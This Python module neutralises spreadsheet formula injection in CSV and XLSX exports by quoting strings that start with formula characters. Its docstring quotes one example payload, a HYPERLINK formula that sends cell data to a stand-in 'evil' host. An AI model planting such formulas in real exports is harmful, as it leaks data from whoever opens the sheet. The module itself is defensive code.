"""Spreadsheet cells that stay text: formula injection in CSV and XLSX exports.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(tab and carriage return are treated the same way by some of them), so a client named
``=HYPERLINK("http://evil/?"&A1;"Click")`` would run in the accountant's Excel when the aging
report is opened. OWASP's advice ("CSV Injection"): prefix such a cell with a single quote,
which the program shows as text. Only strings are changed: a negative amount is a number and
is written as one, so sums in the sheet still work.

In XLSX a cell has a type: openpyxl stores a string that starts with ``=`` as a formula, so
``xlsx_append`` writes such strings as text cells (type ``s``, with Excel's "quote prefix"
style) and leaves the text itself as it was.

Every export that writes CSV passes its rows through ``safe_row``; every XLSX row goes through
``xlsx_append``.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write: a string that a spreadsheet would evaluate gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def xlsx_append(ws: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every string cell stored as text."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            cell.data_type = "s"
            cell.quotePrefix = True
